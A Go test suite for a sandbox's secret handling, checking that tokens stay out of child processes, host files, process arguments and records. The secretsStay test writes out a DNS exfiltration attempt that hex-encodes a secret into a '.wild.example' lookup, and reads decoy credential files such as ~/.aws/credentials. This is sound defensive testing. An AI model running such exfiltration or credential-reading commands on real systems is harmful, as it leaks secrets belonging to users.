package bottletest

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"claude-bottle/internal/audit"
	"claude-bottle/internal/bottle"
	"claude-bottle/internal/environ"
	"claude-bottle/internal/policy"
	"claude-bottle/internal/wire"
)

func secretRows() []row {
	return []row{
		{"for the harness alone", secretsForHarness},
		{"nowhere on the host", secretsNowhere},
		{"a placeholder inside", secretsBrokered},
		{"do not leave", secretsStay},
	}
}

// withSecret launches a bottle with a secret, and a process that has it.
func (s *suite) withSecret(t *testing.T) (bottle.Bottle, string) {
	t.Helper()
	value := "canary-" + rand.Text()
	spec := s.spec()
	spec.Env = append(spec.Env,
		environ.Entry{Name: "TOKEN", Kind: environ.Host, Source: "LAUNCHER_TOKEN"},
		environ.Entry{Name: "PLAIN", Kind: environ.Literal, Value: "literal"})
	lookup := func(name string) (string, bool) { return value, name == "LAUNCHER_TOKEN" }
	secrets, err := environ.Gather(context.Background(), spec.Env, environ.Sources{Lookup: lookup})
	if err != nil {
		t.Fatal(err)
	}
	return s.launchWith(t, spec, secrets), value
}

// secretsBrokered: of a secret that the gateway holds every process has the
// placeholder, and nothing inside, on the host or in the platform's records
// has the value.
func secretsBrokered(t *testing.T, s *suite) {
	value := "ghp_" + rand.Text() + rand.Text()[:10]
	entry := environ.Entry{
		Name: "TOKEN", Kind: environ.Host, Source: "LAUNCHER_TOKEN",
		Use: &policy.Secret{Name: "TOKEN", Hosts: []string{"api.example.com"}},
	}
	spec := s.spec()
	spec.Env = append(spec.Env, entry)
	spec.Egress.Secrets = append(spec.Egress.Secrets, *entry.Use)
	lookup := func(name string) (string, bool) { return value, name == "LAUNCHER_TOKEN" }
	secrets, err := environ.Gather(context.Background(), spec.Env, environ.Sources{Lookup: lookup})
	if err != nil {
		t.Fatal(err)
	}
	b := s.launchWith(t, spec, secrets)
	placeholder := secrets.Brokered()[0].Placeholder
	for _, harness := range []bool{true, false} {
		got := run(t, b, wire.Start{Argv: []string{"sh", "-c", `echo "$TOKEN"; tr '\0' '\n' < /proc/self/environ`}, Secrets: harness}, nil)
		if !strings.HasPrefix(got.stdout, placeholder+"\n") || strings.Contains(got.stdout, value) {
			t.Errorf("inside is %q", got.stdout)
		}
	}
	searchTree(t, s.store.Root(), value, "while it runs")
	searchArguments(t, value, "while it runs")
	if s.config.Inspect != nil && holds(s.config.Inspect(t, b), value) {
		t.Error("the platform's own records of the bottle hold the secret")
	}
	if err := b.Close(); err != nil {
		t.Error(err)
	}
	searchTree(t, s.store.Root(), value, "after the bottle was closed")
}

// secretsStay: the gateway knows the values that are readable inside, and the
// decoys that it lies next to. Names alone are asked for, which it answers by
// itself.
func secretsStay(t *testing.T, s *suite) {
	value := "rd-" + rand.Text()
	spec := s.spec()
	spec.Env = append(spec.Env, environ.Entry{Name: "TOKEN", Kind: environ.Host, Source: "LAUNCHER_TOKEN"})
	spec.Egress.Allow = append(spec.Egress.Allow, policy.Allow{Host: "*.wild.example", Source: "test"})
	spec.Canary = true
	lookup := func(name string) (string, bool) { return value, name == "LAUNCHER_TOKEN" }
	secrets, err := environ.Gather(context.Background(), spec.Env, environ.Sources{Lookup: lookup})
	if err != nil {
		t.Fatal(err)
	}
	b := s.launchWith(t, spec, secrets)
	asks := func(label string) bool {
		got := sh(t, b, `find="getent ahosts"; command -v getent >/dev/null || find="nslookup -type=a"
$find "$1.wild.example" >/dev/null 2>&1 && echo yes || echo no`, label)
		return got.stdout == "yes\n"
	}
	if !asks("plain") || asks(hex.EncodeToString([]byte(value))) {
		t.Error("a name that holds a secret is answered, or one that holds none is not")
	}
	decoy := strings.TrimSpace(sh(t, b, `sed -n 's/^DEPLOY_PASSWORD=//p' ~/.config/deploy/production.env; test -s ~/.aws/credentials`).stdout)
	if len(decoy) < 20 {
		t.Fatalf("the decoy is %q", decoy)
	}
	if asks(decoy) || asks("plain") {
		t.Error("a decoy left, or something after it")
	}
	var rules []string
	eventually(t, "the record has it", func() bool {
		rules = nil
		_, err := audit.Read(filepath.Join(s.store.Dir(b.Run()), bottle.RecordDir, "egress.jsonl"), func(e audit.Event) error {
			rules = append(rules, e.Rule)
			return nil
		})
		return err == nil && slices.Contains(rules, "scan") && slices.Contains(rules, "decoy")
	})
	searchTree(t, filepath.Join(s.store.Dir(b.Run()), bottle.RecordDir), value, "in the record")
	searchTree(t, filepath.Join(s.store.Dir(b.Run()), bottle.RecordDir), decoy, "in the record")
}

func secretsForHarness(t *testing.T, s *suite) {
	b, value := s.withSecret(t)
	prints(t, b, "unset literal\n", `echo "${TOKEN-unset} $PLAIN"`)
	got := run(t, b, wire.Start{Argv: []string{"sh", "-c", `echo "$TOKEN $PLAIN"`}, Secrets: true}, nil)
	if got.stdout != value+" literal\n" {
		t.Errorf("the harness sees %q", got.stdout)
	}
	prints(t, b, "unset literal\n", `echo "${TOKEN-unset} $PLAIN"`)
	var out bytes.Buffer
	exit, err := b.Exec(bounded(t), wire.Start{Argv: []string{"printenv", "TOKEN"}, Secrets: true}, wire.Streams{Stdout: &out})
	if err == nil && exit.Code == 0 || strings.Contains(out.String(), value) {
		t.Errorf("a second process gets the secrets: %+v, %q", exit, out.String())
	}
}

// secretsNowhere looks for the value while a process inside has it, and after.
func secretsNowhere(t *testing.T, s *suite) {
	b, value := s.withSecret(t)
	search := func(when string) {
		searchTree(t, s.store.Root(), value, when)
		searchArguments(t, value, when)
	}
	search("before the harness runs")
	holder := make(chan error, 1)
	ready := make(chan struct{})
	release, hold := newPipe()
	out := newWatcher(func(text string) {
		if strings.HasSuffix(text, "ready\n") {
			close(ready)
		}
	})
	ctx := bounded(t)
	go func() {
		exit, err := b.Exec(ctx, wire.Start{Argv: []string{"sh", "-c", `test -n "$TOKEN" && echo ready && read line`}, Secrets: true},
			wire.Streams{Stdin: release, Stdout: out})
		if err == nil && exit.Code != 0 {
			err = errUnexpected
		}
		holder <- err
	}()
	select {
	case <-ready:
	case <-ctx.Done():
		t.Fatal("the harness does not start")
	}
	search("while the harness runs")
	if s.config.Inspect != nil {
		if holds(s.config.Inspect(t, b), value) {
			t.Error("the platform's own records of the bottle hold the secret")
		}
	}
	_, _ = hold.Write([]byte("\n"))
	if err := <-holder; err != nil {
		t.Errorf("the harness: %v", err)
	}
	if err := b.Close(); err != nil {
		t.Error(err)
	}
	search("after the bottle was closed")
}

func newPipe() (*os.File, *os.File) {
	reader, writer, err := os.Pipe()
	if err != nil {
		panic(err)
	}
	return reader, writer
}

// holds says whether data has the value, as it is or in an encoding that
// programs write by themselves.
func holds(data []byte, value string) bool {
	return bytes.Contains(data, []byte(value)) ||
		bytes.Contains(data, []byte(base64.StdEncoding.EncodeToString([]byte(value)))) ||
		bytes.Contains(data, []byte(strings.TrimRight(base64.URLEncoding.EncodeToString([]byte(value)), "=")))
}

func searchTree(t *testing.T, root, value, when string) {
	t.Helper()
	err := filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
		if errors.Is(err, fs.ErrNotExist) {
			return nil
		}
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(path)
		if err == nil && holds(data, value) {
			t.Errorf("%s: %s holds the secret", when, path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// searchArguments looks through the argument vectors of all processes.
func searchArguments(t *testing.T, value, when string) {
	t.Helper()
	paths, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range paths {
		if data, err := os.ReadFile(path); err == nil && holds(data, value) {
			t.Errorf("%s: %s holds the secret: %q", when, path, bytes.ReplaceAll(data, []byte(value), []byte("…")))
		}
	}
}
